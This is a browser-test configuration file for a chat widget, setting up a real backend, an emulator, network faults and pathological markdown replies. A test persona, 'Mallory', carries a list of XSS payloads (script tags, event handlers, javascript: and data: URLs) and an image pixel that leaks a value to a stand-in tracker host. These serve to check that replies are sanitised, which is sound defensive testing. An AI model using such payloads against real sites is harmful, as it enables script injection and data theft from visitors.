// Browser tests: Chromium, Firefox and WebKit (test/support/browsers.mjs; BROWSERS picks some), with the real backend
// at /persona-chat and the real emulator behind it (and at /emulator), so element tests cross the real protocol. Run
// through `node --import tsx` (see package.json) so this file can load the TypeScript sources of the backend and
// emulator.
import { rmSync } from 'node:fs';
import { mkdtemp, readFile, readdir } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { esbuildPlugin } from '@web/dev-server-esbuild';
import { getRequestListener } from '@hono/node-server';
import { SignJWT, decodeJwt } from 'jose';
import { createEmulator } from './src/emulator/app.ts';
import { defaultPersonas, parsePersonas } from './src/emulator/personas.ts';
import { createBackend } from './src/server/app.ts';
import { MemoryStore } from './src/server/store.ts';
import { browserLaunchers } from './test/support/browsers.mjs';
import { makeTable } from './test/bench/reply.ts';
import { buildBrowser, builtChat } from './test/support/built.mjs';
import { freePort } from './test/support/ports.mjs';
import { reactEsm } from './test/support/react-esm.mjs';

const browsers = browserLaunchers();

/** The sockets of reply streams open right now, so that a test can cut them as a dropped network would. */
const replySockets = new Set();
/** Set while a dropped network is played without the browser's help: the backend's requests are then cut. */
let cutOff = false;

/**
 * `executeServerCommand('offline', {ms})`: a dropped network. The page's open reply streams are cut and the page is
 * offline for `ms`, then back online. Offline is the browser's own where its driver can set it (CDP in Chromium:
 * new requests fail, open ones are left alone, `online` fires at the end); WebDriver has no such command, nor has
 * Firefox ESR 140's WebDriver BiDi, so for WebKit and Firefox the server plays it, cutting every request to the
 * backend until the time is up.
 * The command waits on the server's side, since the page cannot ask for anything while it is offline.
 */
const offlinePlugin = {
  name: 'offline',
  async executeCommand({ command, payload, session }) {
    if (command !== 'offline') return undefined;
    const page = session.browser.getPage(session.id);
    let setOffline = on => void (cutOff = on);
    try {
      await page.setOfflineMode(true);
      setOffline = on => page.setOfflineMode(on);
    } catch (error) {
      // WebDriver has no such command, and Firefox ESR 140's WebDriver BiDi none yet ("unknown command").
      if (page.setOfflineMode && !/unknown command/.test(String(error?.message))) throw error;
      setOffline(true);
    }
    for (const socket of replySockets) socket.destroy();
    await new Promise(resolve => setTimeout(resolve, Number(payload?.ms ?? 3000)));
    await setOffline(false);
    return true;
  },
};

/**
 * `executeServerCommand('stall')`: the page's open reply streams stall, as behind a proxy that holds a connection it
 * lost: the test server stops writing them (their bytes wait, corked, until the page gives up on them).
 */
const stallPlugin = {
  name: 'stall',
  async executeCommand({ command }) {
    if (command !== 'stall') return undefined;
    for (const socket of replySockets) socket.cork();
    return true;
  },
};

/**
 * `executeServerCommand('grant-clipboard')`: lets the page write to the clipboard and read it back, as a visitor's
 * browser lets a page that the visitor clicked in, so a test can check what a Copy button copied.
 */
const clipboardPlugin = {
  name: 'clipboard',
  async executeCommand({ command, session }) {
    if (command !== 'grant-clipboard') return undefined;
    // Granting permissions is Chromium's (CDP); elsewhere the answer is false, and the test reads no clipboard.
    try {
      const page = session.browser.getPage(session.id);
      await page.browserContext().overridePermissions(origin, ['clipboard-read', 'clipboard-sanitized-write']);
      // A page writes to the clipboard only while it has the focus; the suite's pages run side by side in one
      // browser, so this one is made to behave as focused whichever has it (the session stays open for that).
      const cdp = await page.createCDPSession();
      await cdp.send('Emulation.setFocusEmulationEnabled', { enabled: true });
      return true;
    } catch {
      return false;
    }
  },
};

/**
 * The browser bundle as built (`npm run test:browser` builds it once for every engine; a run of web-test-runner alone
 * builds its own), served under `/built/<site>/` as sites serve it, each `site` a way a real one goes wrong:
 * - `whole` (or any other name): the whole folder, as the README says;
 * - `launcher-only`: the launcher copied alone, every other file missing;
 * - `older`: a launcher of an earlier build, as a cache keeps it after a redeploy: it names that build's chat, which
 *   the redeploy removed (made here from the current launcher with the old chat's name in it);
 * - `flaky-<n>`: the whole folder behind a server that fails the first request for the chat's file;
 * - `stalled-<n>`: the whole folder behind a server that leaves the first request for the chat's file unanswered.
 */
let builtDir = process.env.PERSONA_CHAT_BUILT;
if (!builtDir) {
  const own = await mkdtemp(join(tmpdir(), 'persona-chat-built-'));
  process.once('exit', () => rmSync(own, { recursive: true, force: true }));
  builtDir = await buildBrowser(own);
}
const builtFiles = new Set(await readdir(builtDir));
const chatFile = await builtChat(builtDir);
const olderChat = 'persona-chat-define-0lderB1d.js';
/** Every request for a built file, by site: its path and query after `/built/<site>/`. */
const builtRequests = new Map();
/** The flaky and stalled sites that already failed their chat's first request. */
const dropped = new Set();

async function built(ctx) {
  const [, site, file] = /^\/built\/([\w-]+)\/([\w.-]+)$/.exec(ctx.path) ?? [];
  if (!site) return void (ctx.status = 404);
  builtRequests.set(site, [...(builtRequests.get(site) ?? []), file + ctx.search]);
  if (/^(flaky|stalled)-/.test(site) && file === chatFile && !dropped.has(site)) {
    dropped.add(site);
    // A stalled answer comes (as a failure) long after the launcher stopped waiting for it.
    if (site.startsWith('stalled-')) await new Promise(resolve => setTimeout(resolve, 15_000));
    // A failure of the server or of a proxy before it: a dropped connection is asked again by the browser itself.
    return void (ctx.status = 503);
  }
  if (!builtFiles.has(file) || (site === 'launcher-only' && file !== 'persona-chat.js')) return void (ctx.status = 404);
  let code = await readFile(join(builtDir, file), 'utf8');
  if (site === 'older' && file === 'persona-chat.js') code = code.replaceAll(chatFile, olderChat);
  ctx.type = 'text/javascript';
  ctx.body = code;
}

/** A free port for the test server, so the backend can allow its exact origin. */
const port = await freePort();
const origin = `http://127.0.0.1:${port}`;

/**
 * The test server on 127.0.0.1 alone: given `hostname: '127.0.0.1'`, web-test-runner's dev server listens on every
 * interface (dev-server-core's DevServer.start leaves the host out), so this moves it before any browser comes.
 */
const loopbackOnly = {
  name: 'loopback-only',
  async serverStart({ server }) {
    await new Promise(resolve => server.close(resolve));
    await new Promise(resolve => server.listen(port, '127.0.0.1', resolve));
  },
};

// Test-only keys: the product never puts an API key in a browser. The emulator's key is used by the service
// client smoke test, which talks to the emulator directly.
const apiKey = 'browser-test-key';
const tokenSecret = 'browser-test-secret-of-at-least-32-bytes';

/** A persona whose documents are hostile, so its replies carry markup and links a model could be tricked into. */
const mallory = parsePersonas({
  personas: [
    {
      personaId: '0b9c7c0e-5f7a-4c55-8a0e-6d1f3b2a9c41',
      personaVersionId: '7e2d9a14-3c5b-4f6e-9a8d-2b1c0f4e5d63',
      name: 'Mallory',
      documents: [
        {
          documentId: 'hostile',
          title: 'Hostile <b onmouseover="window.__xss=1">title</b>',
          url: 'javascript:window.__xss=1',
          passages: [
            'Hostile reply test: <script>window.__xss=1</script> <img src=x onerror="window.__xss=1"> ' +
              '[click](javascript:window.__xss=1) [encoded](&#106;avascript:window.__xss=1) ' +
              '<iframe src="javascript:window.__xss=1"></iframe> <iframe srcdoc="<script>parent.__xss=1</script>"></iframe> ' +
              '![pixel](https://tracker.example/p.png?leak=secret) <a href="javascript:window.__xss=1">raw link</a> ' +
              '[data](data:text/html,<script>window.__xss=1</script>) <details open ontoggle="window.__xss=1">x</details>',
          ],
        },
      ],
    },
  ],
})[0];
const emulator = createEmulator({ apiKey, pace: 60, personas: [...defaultPersonas, mallory] });
/** Every call of the backend's onFeedback hook. */
const feedbackCalls = [];
/** Every continue request the emulator received, and whether it was aborted: what tests assert on. */
const continues = [];
const upstream = async (input, init) => {
  const request = new Request(input, init);
  const path = new URL(request.url).pathname;
  if (/\/(chat|continue)[-\w]*$/.test(path)) {
    // `aborted`: the backend gave up on the request before the emulator finished answering it.
    const { message } = await request.clone().json();
    const entry = { path, message, aborted: false, completed: false };
    // The backend's own signal: the Request's copy of it follows it only while the Request is alive, and a garbage
    // collection may take the Request once the emulator has answered, long before the reply ends.
    const signal = init?.signal ?? (input instanceof Request ? input.signal : undefined);
    signal?.addEventListener('abort', () => (entry.aborted ||= !entry.completed));
    continues.push(entry);
    const response = await emulator.fetch(request);
    // The answer is complete once its terminal event went out (a reader may stop there, before the stream closes).
    const decoder = new TextDecoder();
    const body = response.body?.pipeThrough(
      new TransformStream({
        transform(chunk, controller) {
          if (decoder.decode(chunk, { stream: true }).includes('[DONE]')) entry.completed = true;
          controller.enqueue(chunk);
        },
        flush: () => void (entry.completed = true),
      }),
    );
    return new Response(body, response);
  }
  return emulator.fetch(request);
};
/**
 * The backend at /persona-chat. Its state lives in a store apart from it, so that `/test-support/restart-backend`
 * can stand in for a rolling deploy: a new instance takes the traffic while the old one drains.
 */
let store = new MemoryStore();

/** The rate limits of both test backends: the suite's tests share one visitor, and none of them may reach a limit. */
const suiteLimits = {
  messagesPerUserPerMinute: 1000,
  messagesPerIpPerMinute: 1000,
  sessionsPerIpPerMinute: 1000,
  sessionsPerVisitorPerMinute: 1000,
  conversationsPerUserPerMinute: 1000,
  conversationReadsPerUserPerMinute: 1000,
  feedbackPerUserPerMinute: 1000,
  concurrentStreamsPerUser: 1000,
};

const makeBackend = () =>
  createBackend({
    serviceUrl: 'http://emulator.internal',
    store,
    onFeedback: call => void feedbackCalls.push(call),
    fetch: upstream,
    http2Fetch: upstream,
    apiKey,
    personaId: [...defaultPersonas, mallory].map(p => p.personaId),
    tokenSecret,
    allowedOrigins: [origin],
    basePath: '/persona-chat',
    limits: suiteLimits,
    // A ping a second: a stream silent for 4 s has stalled (see stream.ts), which a test can wait for.
    pingIntervalMs: 1000,
    log: () => {},
  });
let backend = makeBackend();

/**
 * A second stack for hostile replies, at /hostile-chat: a stand-in model (in-process, answering what the test's
 * message asks for) writes deeply nested or pathological markdown, and its upstream wrapper turns the citations of
 * a reply asked with "bad citations" into garbage, as a faulty service might send them.
 */
const hostileReplies = [
  [/nested list/, () => '- '.repeat(1000) + 'x'],
  [/deep quote/, () => '>'.repeat(5000) + ' deep'],
  [/stars/, () => '*'.repeat(3000) + 'x' + '*'.repeat(3000)],
  [/underscores/, () => '_a'.repeat(20000)],
  [/indented/, () => Array.from({ length: 300 }, (_, i) => ' '.repeat(i * 2) + '- item').join('\n')],
  [/fences/, () => '```\n'.repeat(12000)],
  [
    /code block/,
    () =>
      'Install it, then start the server [1]:\n\n```sh\nnpm install persona-chat && npx persona-chat-server --service-url https://service.example --persona-id 3e913ded --port 8787\n```\n\n' +
      '| Option | Default |\n|:--|--:|\n| `--port` | 8787 |\n\n- [x] installed\n- [ ] configured',
  ],
  // Not hostile: a reply with a heading, for the heading levels.
  [/with a heading/, () => '# Shipping\n\nThree to five business days [1].'],
  // Not hostile: a reply with a code block, for the copy button.
  [/as code/, () => 'Install it:\n\n```sh\nnpm install persona-chat\n```\n'],
  // Not hostile: a reply with JavaScript, for the highlighter.
  [/in javascript/, () => 'Like this:\n\n```js\nconst size = 2; // people\n```\n'],
  // Not hostile, only long: a table of 3,000 rows, drawn in pieces when it is restored.
  [/whole catalogue/, () => makeTable(3000)],
];
/** Replies held after their first words, by the id they were asked with, until `/test-support/release` lets them go on. */
const held = new Map();
/** A reply asked with "held <id>": its first words open emphasis, and the rest waits until the test releases it. */
const heldReply = id => {
  const encoder = new TextEncoder();
  const frame = content =>
    encoder.encode(`data: ${JSON.stringify({ choices: [{ index: 0, delta: { content } }] })}\n\n`);
  const body = new ReadableStream({
    async start(controller) {
      controller.enqueue(frame('Shipping is **free'));
      await new Promise(resolve => held.set(id, resolve));
      controller.enqueue(frame(' over $50** and returns take `30 days`.'));
      controller.enqueue(encoder.encode('data: [DONE]\n\n'));
      controller.close();
    },
  });
  return new Response(body, { headers: { 'content-type': 'text/event-stream' } });
};
const hostileModel = async (_input, init) => {
  const { messages } = JSON.parse(init.body);
  const asked = messages.at(-1).content;
  const hold = /held (\w+)/.exec(asked);
  if (hold) return heldReply(hold[1]);
  const text = hostileReplies.find(([pattern]) => pattern.test(asked))?.[1]() ?? 'A plain answer [1].';
  const pieces = text.match(/[\s\S]{1,1500}/g) ?? [''];
  const frames = pieces.map(content => `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content } }] })}\n\n`);
  return new Response(frames.join('') + 'data: [DONE]\n\n', { headers: { 'content-type': 'text/event-stream' } });
};
const hostileEmulator = createEmulator({
  apiKey,
  personas: defaultPersonas,
  openai: { baseUrl: 'http://model.internal/v1', model: 'stand-in', fetch: hostileModel },
});
const garbageCitations = [null, { sourceName: { x: 1 }, partitions: 'oops' }, { partitions: [null, { text: 7 }] }, 'x'];
const hostileBackend = createBackend({
  serviceUrl: 'http://hostile.internal',
  apiKey,
  personaId: defaultPersonas[1].personaId,
  tokenSecret,
  allowedOrigins: [origin],
  basePath: '/hostile-chat',
  limits: suiteLimits,
  log: () => {},
  fetch: async (input, init) => {
    const request = new Request(input, init);
    const asked = /\/(chat|continue)[-\w]*$/.test(new URL(request.url).pathname)
      ? (await request.clone().json()).message
      : '';
    const response = await hostileEmulator.fetch(request);
    if (!asked.includes('bad citations')) return response;
    // Every `citations` in the reply, whether one JSON body or the data of each server-sent event, becomes garbage.
    const garble = json =>
      JSON.stringify(JSON.parse(json), (key, value) => (key === 'citations' ? garbageCitations : value));
    const text = (await response.text())
      .split('\n')
      .map(line =>
        line.startsWith('data: {') ? `data: ${garble(line.slice(6))}` : line.startsWith('{') ? garble(line) : line,
      )
      .join('\n');
    return new Response(text, response);
  },
});

const emulatorListener = getRequestListener(request => emulator.fetch(request));
const hostileListener = getRequestListener((request, env) => hostileBackend.fetch(request, env));
const backendListener = getRequestListener((request, env) => backend.fetch(request, env));

/** Routes only the tests use, to observe and steer the emulator. */
async function testSupport(ctx) {
  ctx.type = 'application/json';
  if (ctx.path === '/test-support/continues') ctx.body = JSON.stringify(continues);
  else if (ctx.path === '/test-support/built-requests')
    ctx.body = JSON.stringify(builtRequests.get(ctx.query.site) ?? []);
  else if (ctx.path === '/test-support/feedback-calls') ctx.body = JSON.stringify(feedbackCalls);
  else if (ctx.path === '/test-support/release') {
    held.get(ctx.query.id)?.();
    held.delete(ctx.query.id);
    ctx.body = '{}';
  } else if (ctx.path === '/test-support/reset') {
    continues.length = 0;
    feedbackCalls.length = 0;
    emulator.faults.reset();
    ctx.body = '{}';
  } else if (ctx.path === '/test-support/expire') {
    // Stands in for time passing: a token for the same visitor whose expiry is already behind us.
    const claims = decodeJwt(ctx.query.token);
    const now = Math.floor(Date.now() / 1000);
    const token = await new SignJWT({ pid: claims.pid })
      .setProtectedHeader({ alg: 'HS256', typ: 'JWT' })
      .setSubject(claims.sub)
      .setAudience(claims.aud)
      .setIssuedAt(now - 700)
      .setExpirationTime(now - 100)
      .sign(new TextEncoder().encode(tokenSecret));
    ctx.body = JSON.stringify({ token });
  } else if (ctx.path === '/test-support/restart-backend') {
    // A deploy: new requests go to a new instance at once; the old one drains for `grace` ms, then hands over.
    // `fresh`: the new instance starts with a store of its own, as one without a shared store does after a restart.
    // `crash`: the old instance dies at once, handing nothing over: the replies it produces end interrupted.
    const old = backend;
    if (ctx.query.fresh) store = new MemoryStore();
    backend = makeBackend();
    if (!ctx.query.crash) await old.drain(Number(ctx.query.grace ?? 0));
    old.close();
    ctx.body = '{}';
  } else if (ctx.path === '/test-support/forget-visitor') {
    // A first visit: the anonymous visitor's cookie is forgotten.
    ctx.set('Set-Cookie', 'persona_chat_visitor=; Path=/persona-chat; Max-Age=0; HttpOnly; SameSite=Lax');
    ctx.body = '{}';
  } else if (ctx.path === '/test-support/host.html') {
    // A plain host page, as a tab of the site: one element, its persona, storage and mode from the query.
    const persona = /^[0-9a-f-]{36}$/.test(ctx.query.persona ?? '') ? ctx.query.persona : defaultPersonas[1].personaId;
    const storage = ['local', 'session', 'none'].includes(ctx.query.storage) ? ctx.query.storage : 'local';
    const mode = ctx.query.mode === 'launcher' ? 'launcher' : 'inline';
    ctx.type = 'text/html';
    ctx.body =
      '<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Host</title>' +
      '<script type="module" src="/test/element/host-page.ts"></script></head>' +
      `<body><persona-chat endpoint="/persona-chat" mode="${mode}" storage="${storage}" persona-id="${persona}"></persona-chat></body></html>`;
  } else if (ctx.path === '/test-support/csp.html') {
    // A host page with a strict policy: scripts from this origin only, no inline code, no eval, Trusted Types
    // required with only Lit's policy allowed.
    ctx.type = 'text/html';
    ctx.set(
      'Content-Security-Policy',
      "default-src 'self'; script-src 'self'; style-src 'self'; connect-src 'self'; img-src 'self'; " +
        "object-src 'none'; base-uri 'none'; require-trusted-types-for 'script'; trusted-types lit-html",
    );
    ctx.body =
      '<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Strict CSP host</title>' +
      '<script type="module" src="/test/element/csp-page.ts"></script></head>' +
      `<body><persona-chat endpoint="/persona-chat" mode="inline" storage="none" persona-id="${defaultPersonas[1].personaId}"></persona-chat></body></html>`;
  } else ctx.status = 404;
}

export default {
  files: ['test/element/**/*.test.ts'],
  hostname: '127.0.0.1',
  port,
  nodeResolve: { exportConditions: ['development'] },
  plugins: [
    esbuildPlugin({ ts: true, target: 'es2022', tsconfig: './tsconfig.json' }),
    offlinePlugin,
    stallPlugin,
    loopbackOnly,
    clipboardPlugin,
    reactEsm,
  ],
  browsers,
  concurrency: 1,
  // The test-support state (continues, faults, the visitor) is one per server: given several engines, one at a time.
  // `npm run test:browser` runs one process, so one server, per engine instead (test/support/run-browsers.mjs).
  concurrentBrowsers: 1,
  testFramework: { config: { timeout: 15_000 } },
  // A file's whole run: the accessibility sweep reaches two dozen real states, which takes WebKit on a busy two-core
  // machine more than the default two minutes. Each test keeps its own 15 s.
  testsFinishTimeout: 300_000,
  middleware: [
    async function mounts(ctx, next) {
      if (ctx.path.startsWith('/test-support/')) return testSupport(ctx);
      if (ctx.path.startsWith('/built/')) return built(ctx);
      if (ctx.path.startsWith('/persona-chat')) {
        if (cutOff) return void ctx.req.socket.destroy();
        if (/\/(messages|events)$/.test(ctx.path)) {
          const socket = ctx.req.socket;
          replySockets.add(socket);
          ctx.res.once('close', () => replySockets.delete(socket));
        }
        ctx.respond = false;
        return backendListener(ctx.req, ctx.res);
      }
      if (ctx.path.startsWith('/hostile-chat')) {
        ctx.respond = false;
        return hostileListener(ctx.req, ctx.res);
      }
      if (ctx.path.startsWith('/emulator/')) {
        ctx.respond = false;
        ctx.req.url = ctx.req.url.slice('/emulator'.length);
        return emulatorListener(ctx.req, ctx.res);
      }
      return next();
    },
  ],
};
